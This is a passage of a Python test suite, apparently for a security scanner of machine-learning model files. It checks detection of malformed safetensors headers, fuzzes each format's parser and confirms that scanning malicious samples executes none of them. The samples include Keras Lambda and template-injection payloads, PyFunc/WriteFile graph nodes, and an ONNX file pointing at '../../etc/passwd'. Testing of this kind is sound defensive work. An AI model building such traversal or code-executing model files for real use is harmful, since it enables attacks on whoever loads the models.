        (fs.safetensors_raw({"a": _entry("F128", [2], 0, 8)}, b"\0" * 8), "high", "unknown dtype"),
        (fs.safetensors_raw({"a": _entry("F32", [-2], 0, 8)}, b"\0" * 8), "high", "shape"),
        (fs.safetensors_raw({"a": _entry("F32", [2], 8, 0)}, b"\0" * 8), "high", "before it starts"),
        (fs.safetensors_raw({"a": _entry("F32", [1 << 62, 1 << 62], 0, 8)}, b"\0" * 8), "high", "overflows"),
        (fs.safetensors_raw({"a": _entry("F4", [3], 0, 2)}, b"\0" * 2), "high", "byte boundary"),
        (fs.safetensors_raw({"__metadata__": {"a": 1}}), "high", "__metadata__"),
        (fs.safetensors_raw([1, 2]), "high", "not an object"),  # type: ignore[arg-type]
        (fs.safetensors_raw(b"\xff\xfe{}"), "high", "UTF-8"),
        (fs.safetensors_raw(b'{"a": 1, "a": 1}'), "medium", "more than once"),
        (
            fs.safetensors_raw(b'{"a": {"dtype": "U8", "dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}', b"\0"),
            "high",
            "dtype",
        ),
        (b"\x05\0\0", "high", "shorter"),
    ],
)
def test_safetensors_malformed(data: bytes, severity: str, text: str) -> None:
    findings, error = outcome(scan_safetensors, data)
    assert error is None
    find(findings, "model.safetensors.malformed", severity, text)


_DTYPES = st.sampled_from([*sorted(DTYPE_BITS), "F128", "X"])


@st.composite
def _safetensors_files(draw: st.DrawFn) -> bytes:
    """Headers close to valid: correct layouts with random perturbations of every rule."""
    header: dict[str, Any] = {}
    offset = 0
    for i in range(draw(st.integers(0, 4))):
        dtype = draw(_DTYPES)
        shape = draw(st.lists(st.integers(0, 5), max_size=3))
        size = (int(np.prod(shape)) * DTYPE_BITS.get(dtype, 8) + 7) // 8
        start = offset + draw(st.sampled_from([0, 0, 0, 1, -1]))
        end = start + size + draw(st.sampled_from([0, 0, 0, 1, -1]))
        header[f"t{i}"] = {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}
        offset = max(offset, end)
    if draw(st.booleans()):
        header["__metadata__"] = draw(
            st.dictionaries(st.text(max_size=3), st.one_of(st.text(max_size=3), st.integers()), max_size=2)
        )
    return fs.safetensors_raw(header, b"\0" * max(0, offset + draw(st.sampled_from([0, 0, 1, -1]))))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_safetensors_files())
def test_safetensors_agrees_with_the_reference_implementation(data: bytes) -> None:
    """A file gets a high finding exactly when the reference loader refuses it."""
    from safetensors import deserialize

    try:
        deserialize(data)  # type: ignore[no-untyped-call]
        accepted = True
    except Exception:  # the reference raises SafetensorError, and ValueError-like errors from its bindings
        accepted = False
    findings, _ = outcome(scan_safetensors, data)
    assert accepted == (not any(f.severity == "high" for f in findings)), [f.message for f in findings]


# ============================================================================== robustness, no execution


def _prefixed(prefix: bytes) -> st.SearchStrategy[bytes]:
    return st.binary(max_size=1024).map(lambda tail: prefix + tail)


_FUZZ = {
    "keras": st.one_of(st.binary(max_size=512), _prefixed(b"PK\x03\x04")),
    "hdf5": _prefixed(b"\x89HDF\r\n\x1a\n"),
    "savedmodel": st.one_of(st.binary(max_size=1024), _prefixed(b"\x08\x01\x12")),
    "onnx": st.one_of(st.binary(max_size=1024), _prefixed(b"\x08\x07\x3a")),
    "gguf": st.one_of(_prefixed(b"GGUF\x03\0\0\0"), _prefixed(b"GGUF\x03\0\0\0\x01\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0")),
    "safetensors": st.one_of(st.binary(max_size=512), st.binary(max_size=256).map(lambda b: fs.safetensors_raw(b"{" + b))),
}


@pytest.mark.parametrize("name", sorted(HANDLERS))
def test_arbitrary_bytes_give_findings_or_scan_error(name: str) -> None:
    handler = HANDLERS[name]

    @settings(max_examples=40 if name == "hdf5" else 300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(_FUZZ[name])
    def run(data: bytes) -> None:
        try:
            findings = handler(data, ModelContext("fuzz"))
        except ScanError:
            return
        assert all(isinstance(f, Finding) for f in findings)

    run()


def test_mutated_real_files_give_findings_or_scan_error(tmp_path: Path) -> None:
    """Bit flips in real files of each format (deterministic, so a regression reproduces)."""
    import random

    seeds = {
        "gguf": fs.gguf_file(tmp_path / "m.gguf", fs.QWEN_TOOLS),
        "onnx": _onnx_model(location="w.bin"),
        "savedmodel": fs.benign_saved_model(),
        "keras": fs.keras_archive(fs.keras_sequential(fs.keras_dense())),
        "hdf5": fs.keras_h5(fs.keras2_sequential()),
    }
    rng = random.Random(1234)
    for name, seed in seeds.items():
        for _ in range(20 if name in ("hdf5", "keras") else 200):
            data = bytearray(seed)
            for _ in range(rng.randint(1, 8)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            with contextlib.suppress(ScanError):
                HANDLERS[name](bytes(data[: rng.randint(1, len(data))] if rng.random() < 0.2 else data), ModelContext("m"))


def _every_malicious_sample(marker: Path, tmp_path: Path) -> Iterator[tuple[Handler, bytes]]:
    for config, *_ in _keras_cases(marker).values():
        yield scan_keras_v3, fs.keras_archive(config)
        yield scan_hdf5, fs.keras_h5(config)
    yield scan_hdf5, fs.keras_h5(fs.keras2_sequential(fs.keras2_lambda(marker)))
    for i, (template, _) in enumerate(fs.SSTI_TEMPLATES.values()):
        yield scan_gguf, fs.gguf_file(tmp_path / f"{i}.gguf", template.replace("MARKER", str(marker)))
    yield scan_savedmodel, fs.saved_model([fs.tf_node("p", "PyFunc"), fs.tf_node("w", "WriteFile")])
    yield scan_onnx, _onnx_model(location="../../etc/passwd", domain="evil")


def test_scanning_every_payload_runs_none_of_them(marker: Path, tmp_path: Path) -> None:
    count = 0
    for handler, data in _every_malicious_sample(marker, tmp_path):
        findings, _ = outcome(handler, data)
        assert findings, handler
        count += 1
    assert count > 40
    assert not marker.exists()
